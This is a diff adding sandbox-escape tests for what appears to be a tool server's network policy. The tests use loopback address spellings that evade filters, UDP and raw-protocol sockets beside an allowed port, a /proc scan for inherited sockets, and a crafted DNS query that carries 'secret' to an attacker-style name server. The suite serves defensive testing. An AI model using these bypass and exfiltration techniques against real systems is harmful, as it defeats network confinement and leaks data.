@@ -90,3 +90,104 @@ def loopback_by_fetch_url(scene):
         for host in ("127.0.0.1", "localhost", "0.0.0.0", "2130706433", "0x7f.1", "127.1", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]"):
             scene.serve().call("fetch_url", url=f"http://{host}:{port}/")
     return reached(listener)
+
+
+# ---- beside what the policy lets commands reach: the allowed place is really reached, or nothing would be shown ----
+
+REACH = """
+import socket
+def reach(address, port, kind=socket.SOCK_STREAM):
+    try:
+        with socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET, kind) as s:
+            s.settimeout(5)
+            s.connect((address, port))
+            s.send(b'x')
+            return True
+    except OSError:
+        return False
+"""
+SPELLINGS = ("127.0.0.1", "127.0.0.2", "0.0.0.0", "::1", "::", "::ffff:127.0.0.1", "198.18.0.1", "198.18.0.2", "198.19.255.254", "localhost")
+
+
+def allowing(scene, *, denied=()):
+    """(the port that policy names, what listens there): a server whose commands reach it."""
+    port, listener = listen(scene)
+    network = {"allowedDomains": [f"localhost:{port}"], "deniedDomains": list(denied)}
+    if scene.stage == "unconfined":
+        scene.serve()
+    else:
+        scene.serve(policy={"network": network})
+    return port, listener
+
+
+def accept(scene, listener):
+    """Takes the connection that the attack made on purpose, so that only others are left."""
+    if scene.stage == "unconfined" or profile(scene) == "full":  # under the others commands reach nothing
+        assert reached(listener), "not even what the policy names was reached"
+    if reached(listener):
+        listener.accept()[0].close()
+
+
+def profile(scene):
+    return scene.serve().request("tools/call", {"name": "explain_access", "arguments": {}})["result"]["structuredContent"]["profile"]
+
+
+@attack("network", "network namespace, broker")
+def another_port_of_an_allowed_host(scene):
+    port, listener = allowing(scene)
+    other, elsewhere = listen(scene)
+    scene.python(REACH + f"reach('127.0.0.1', {port})\nfor a in {SPELLINGS}: reach(a, {other})")
+    accept(scene, listener)
+    return reached(elsewhere)
+
+
+@attack("network", "broker")
+def denied_address_of_an_allowed_name(scene):
+    port, listener = allowing(scene, denied=["127.0.0.1", "::1"])
+    scene.python(REACH + f"for a in {SPELLINGS}: reach(a, {port})")
+    return reached(listener)
+
+
+@attack("network", "network namespace")
+def datagrams_beside_an_allowed_port(scene):
+    port, listener = allowing(scene)
+    receiver = scene.hold(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
+    receiver.bind(("127.0.0.1", port))
+    scene.python(REACH + f"reach('127.0.0.1', {port})\nfor a in {SPELLINGS}: reach(a, {port}, socket.SOCK_DGRAM)")
+    accept(scene, listener)
+    return reached(receiver)
+
+
+@attack("network", "broker")
+def question_past_the_broker(scene):
+    """Names carry data out: to a name server of the attacker's, over what the policy allows for something else."""
+    port, listener = allowing(scene)
+    receiver = scene.hold(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
+    receiver.bind(("127.0.0.53", 0))
+    scene.python(REACH + f"reach('127.0.0.1', {port})\nq = b'\\0\\1\\1\\0\\0\\1' + bytes(6) + b'\\6secret\\0\\0\\1\\0\\1'\n"
+                 f"for p in (53, {receiver.getsockname()[1]}):\n  for a in ('127.0.0.1', '127.0.0.53'):\n"
+                 "    try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, (a, p))\n    except OSError: pass")
+    accept(scene, listener)
+    return reached(receiver)
+
+
+@attack("network", "seccomp")
+def other_protocols_beside_an_allowed_port(scene):
+    port, listener = allowing(scene)
+    scene.python(f"import socket\nsocket.socket(socket.AF_INET, socket.SOCK_STREAM, 262).connect(('127.0.0.1', {port}))")
+    return reached(listener)
+
+
+@attack("network", "descriptors")
+def socket_of_the_broker(scene):
+    """What listens inside was made inside: whoever finds it, or its number in /proc, accepts for all others of the sandbox."""
+    port, listener = allowing(scene)
+    held = scene.hold(socket.create_server(("127.0.0.1", 0)))
+    os.set_inheritable(held.fileno(), True)
+    if scene.stage == "unconfined":
+        scene.descriptors = (held.fileno(),)
+    said = scene.python("import os\nfor p in [d for d in os.listdir('/proc') if d.isdigit()]:\n  try:\n    for f in os.listdir('/proc/' + p + '/fd'):\n"
+                        "      if os.readlink('/proc/' + p + '/fd/' + f).startswith('socket:'): print('held by', p)\n  except OSError: pass\n"
+                        + REACH.strip() + f"\nreach('127.0.0.1', {port})")
+    accept(scene, listener)
+    return "held by" in said
